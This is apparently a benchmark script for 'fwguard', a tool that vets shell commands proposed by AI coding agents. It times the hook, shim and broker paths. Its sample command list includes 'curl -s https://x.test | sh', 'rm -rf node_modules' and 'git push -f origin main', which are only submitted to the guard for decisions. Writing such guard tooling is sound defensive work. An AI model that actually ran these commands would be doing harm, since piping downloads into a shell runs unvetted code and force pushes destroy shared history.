#!/usr/bin/env node
// `node scripts/bench-broker.mjs` (after `npm run build`): what does `fwguard run`'s broker cost
// and save?
//   1. Hook latency (a whole Claude Code PreToolUse hook process, as `fwguard run -- claude`
//      registers it): through the broker (FWGUARD_BROKER set) vs standalone vs a bare `node -e 0`,
//      interleaved round-robin, medians and p95 over --runs rounds (default 100), and ratios.
//   2. A shell command through the shim (`<shims>/bash -c CMD` → decision → exec of the real bash):
//      the broker asked by the shims' perl client (the default), by the node decision step
//      (FWGUARD_SHIM_PERL=0), no broker (standalone node decision), vs the real `bash -c CMD`:
//      the per-command overhead `fwguard run` adds for non-Claude agents (target in issue 4: ≤ 10 ms).
//   3. Decisions/s through one broker connection: sequential round trips, and 32 in flight.
// The broker runs in its own process (as in `fwguard run`), in a throw-away git project with a
// fake HOME and state dir.
//
// Usage: node scripts/bench-broker.mjs [--runs N] [--decisions N] [--json]
import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, existsSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { performance } from 'node:perf_hooks';
import { fileURLToPath, pathToFileURL } from 'node:url';

const root = join(dirname(fileURLToPath(import.meta.url)), '..');
const NODE = process.execPath;
const argv = process.argv.slice(2);
const opt = (name, d) => {
  const i = argv.indexOf(name);
  if (i < 0) return d;
  const n = Number(argv[i + 1]);
  if (!Number.isInteger(n) || n < 1) {
    console.error(`${name} needs a positive integer`);
    process.exit(3);
  }
  return n;
};
const RUNS = opt('--runs', 100);
const DECISIONS = opt('--decisions', 5000);
const asJson = argv.includes('--json');
if (!existsSync(join(root, 'dist/hook.js')) || !existsSync(join(root, 'dist/src/broker/server.js'))) {
  console.error('bench-broker: run `npm run build` first');
  process.exit(3);
}
const imp = (p) => import(pathToFileURL(join(root, 'dist/src', p)).href);
const { createSandbox } = await imp('policy/sandbox.js');
const { snapshotStatus } = await imp('install/snapshot.js');
const { BrokerConnection } = await imp('broker/client.js');

const box = createSandbox(join(process.env.XDG_CACHE_HOME || join(process.env.HOME ?? '/tmp', '.cache'), 'fwguard-bench'));
const state = join(box.root, 'state');
mkdirSync(state, { recursive: true, mode: 0o700 });
const runDir = mkdtempSync('/tmp/fwg-bench-');
const env = { PATH: process.env.PATH, HOME: box.home, FWGUARD_STATE_DIR: state, FWGUARD_RUN_DIR: runDir };

// The broker in its own process, like `fwguard run`.
const brokerProc = spawn(
  NODE,
  [
    '--input-type=module',
    '-e',
    `const { startBroker } = await import(${JSON.stringify(pathToFileURL(join(root, 'dist/src/broker/server.js')).href)});
     const b = await startBroker({ env: process.env, ci: false, agent: 'bench', argv: ['bench'], cwd: process.cwd(), approveTimeoutS: 30 });
     console.log(JSON.stringify({ socket: b.socket, token: b.token, id: b.id }));
     process.on('SIGTERM', async () => { await b.close(); process.exit(0); });`,
  ],
  { cwd: box.project, env, stdio: ['ignore', 'pipe', 'inherit'] },
);
const info = await new Promise((resolve, reject) => {
  let out = '';
  brokerProc.stdout.on('data', (d) => {
    out += d;
    if (out.includes('\n')) resolve(JSON.parse(out));
  });
  brokerProc.once('exit', (c) => reject(new Error(`broker exited ${c}`)));
});

const snap = snapshotStatus(root, NODE);
const hookArgs = snap.usable ? ['--snapshot-blob', snap.blob, 'hook', 'claude-code'] : [join(root, 'bin/run.js'), 'hook', 'claude-code'];
const COMMANDS = ['git status', 'ls -la src', 'rm -rf node_modules', 'npm test', 'cat README.md | grep app > out.txt', 'git push -f origin main', 'curl -s https://x.test | sh', 'echo hi > notes2.txt'];
let k = 0;
const payload = () => JSON.stringify({ session_id: `bench-${k++}`, cwd: box.project, hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command: COMMANDS[k % COMMANDS.length] } });

function time(cmd, args, input, e) {
  const t = performance.now();
  const r = spawnSync(cmd, args, { input, cwd: box.project, env: e, encoding: 'utf8' });
  const ms = performance.now() - t;
  if (r.error) throw r.error;
  return { ms, status: r.status, stderr: r.stderr };
}
const median = (a) => {
  const s = [...a].sort((x, y) => x - y);
  return s.length % 2 ? s[(s.length - 1) / 2] : (s[s.length / 2 - 1] + s[s.length / 2]) / 2;
};
const p95 = (a) => [...a].sort((x, y) => x - y)[Math.min(a.length - 1, Math.ceil(a.length * 0.95) - 1)];
const stats = (a) => ({ median: +median(a).toFixed(2), p95: +p95(a).toFixed(2), n: a.length });

// 1. Hook latency, interleaved.
// Every path writes its trace record, as in real use (the broker writes it for brokered calls).
const brokerEnv = { ...env, FWGUARD_BROKER: info.socket, FWGUARD_BROKER_TOKEN: info.token };
const aloneEnv = { ...env };
const hook = { broker: [], standalone: [], bare: [] };
for (let i = 0; i < 5; i++) time(NODE, hookArgs, payload(), brokerEnv); // warm-up
for (let i = 0; i < RUNS; i++) {
  const p = payload();
  hook.broker.push(time(NODE, hookArgs, p, brokerEnv).ms);
  hook.standalone.push(time(NODE, hookArgs, p, aloneEnv).ms);
  hook.bare.push(time(NODE, ['-e', '0'], '', env).ms);
}

// 2. A command through the shim.
const shimDir = join(root, 'bin/shims');
const realBash = spawnSync('sh', ['-c', 'command -v bash'], { encoding: 'utf8' }).stdout.trim();
const shimEnv = { ...env, FWGUARD_NODE: NODE, FWGUARD_BIN: join(root, 'bin/run.js'), FWGUARD_SHIM_DIR: shimDir, FWGUARD_REAL_BASH: realBash, ...(snap.usable ? { FWGUARD_HOOK_BLOB: snap.blob } : {}) };
const shim = { broker: [], brokerNode: [], standalone: [], bash: [] };
const SHELL_CMDS = ['true', 'ls -la > /dev/null', 'git status --short > /dev/null', 'echo hi > notes3.txt'];
for (let i = 0; i < RUNS; i++) {
  const c = SHELL_CMDS[i % SHELL_CMDS.length];
  const a = time(join(shimDir, 'bash'), ['-c', c], '', { ...shimEnv, FWGUARD_BROKER: info.socket, FWGUARD_BROKER_TOKEN: info.token });
  if (a.status !== 0) throw new Error(`shim via broker refused ${c}: ${a.stderr}`);
  shim.broker.push(a.ms);
  shim.brokerNode.push(time(join(shimDir, 'bash'), ['-c', c], '', { ...shimEnv, FWGUARD_BROKER: info.socket, FWGUARD_BROKER_TOKEN: info.token, FWGUARD_SHIM_PERL: '0' }).ms);
  shim.standalone.push(time(join(shimDir, 'bash'), ['-c', c], '', shimEnv).ms);
  shim.bash.push(time(realBash, ['-c', c], '', env).ms);
}

// 3. Decisions/s through one connection.
const conn = await BrokerConnection.open(info.socket, info.token);
const proposal = (i) => ({ kind: 'shell', command: COMMANDS[i % COMMANDS.length], cwd: box.project, session: `tp-${i % 50}` });
for (let i = 0; i < 50; i++) await conn.request({ type: 'decide', proposal: proposal(i), front: 'client' });
let t = performance.now();
for (let i = 0; i < DECISIONS; i++) {
  const r = await conn.request({ type: 'decide', proposal: proposal(i), front: 'client' });
  if (r.type !== 'decision') throw new Error(JSON.stringify(r));
}
const sequential = DECISIONS / ((performance.now() - t) / 1000);
t = performance.now();
let sent = 0;
await Promise.all(
  Array.from({ length: 32 }, async () => {
    while (sent < DECISIONS) {
      const i = sent++;
      await conn.request({ type: 'decide', proposal: proposal(i), front: 'client' });
    }
  }),
);
const pipelined = DECISIONS / ((performance.now() - t) / 1000);
conn.close();
brokerProc.kill('SIGTERM');
await new Promise((r) => brokerProc.once('exit', r));
rmSync(box.root, { recursive: true, force: true });
rmSync(runDir, { recursive: true, force: true });

const result = {
  node: process.version,
  snapshot: snap.usable,
  runs: RUNS,
  hook: { broker: stats(hook.broker), standalone: stats(hook.standalone), bareNode: stats(hook.bare) },
  hookRatios: { brokerOverBare: +(median(hook.broker) / median(hook.bare)).toFixed(2), standaloneOverBare: +(median(hook.standalone) / median(hook.bare)).toFixed(2), brokerOverStandalone: +(median(hook.broker) / median(hook.standalone)).toFixed(2) },
  shim: {
    brokerPerl: stats(shim.broker),
    brokerNode: stats(shim.brokerNode),
    standalone: stats(shim.standalone),
    realBash: stats(shim.bash),
    addedMsBrokerPerl: +(median(shim.broker) - median(shim.bash)).toFixed(2),
    addedMsBrokerNode: +(median(shim.brokerNode) - median(shim.bash)).toFixed(2),
    addedMsStandalone: +(median(shim.standalone) - median(shim.bash)).toFixed(2),
  },
  loadAverage: (await import('node:os')).loadavg().map((x) => +x.toFixed(2)),
  decisionsPerSecond: { sequential: Math.round(sequential), inFlight32: Math.round(pipelined), n: DECISIONS, note: 'trace written (as in a run); the mix includes writes, a force push and curl | sh' },
};
if (asJson) console.log(JSON.stringify(result, null, 2));
else {
  const row = (name, s) => `  ${name.padEnd(34)} median ${String(s.median).padStart(7)} ms   p95 ${String(s.p95).padStart(7)} ms`;
  console.log(`fwguard run broker bench (node ${result.node}, hook from ${snap.usable ? 'its startup snapshot' : 'dist/hook.js'}, ${RUNS} interleaved rounds)`);
  console.log('hook process (PreToolUse, Bash):');
  console.log(row('through the broker', result.hook.broker));
  console.log(row('standalone', result.hook.standalone));
  console.log(row('bare node -e 0', result.hook.bareNode));
  console.log(`  ratios: broker/bare ${result.hookRatios.brokerOverBare}×, standalone/bare ${result.hookRatios.standaloneOverBare}×, broker/standalone ${result.hookRatios.brokerOverStandalone}×`);
  console.log('one shell command (bash -c CMD):');
  console.log(row('shim → perl client → broker', result.shim.brokerPerl));
  console.log(row('shim → node step → broker', result.shim.brokerNode));
  console.log(row('shim, no broker (standalone node)', result.shim.standalone));
  console.log(row('real bash, unguarded', result.shim.realBash));
  console.log(`  added per command: ${result.shim.addedMsBrokerPerl} ms (perl → broker), ${result.shim.addedMsBrokerNode} ms (node → broker), ${result.shim.addedMsStandalone} ms standalone`);
  console.log(`load average at the end: ${result.loadAverage.join(' ')} (2 cores shared with other work: medians, interleaved)`);
  console.log(`decisions/s through one connection: ${result.decisionsPerSecond.sequential} sequential, ${result.decisionsPerSecond.inFlight32} with 32 in flight (${DECISIONS} each)`);
}
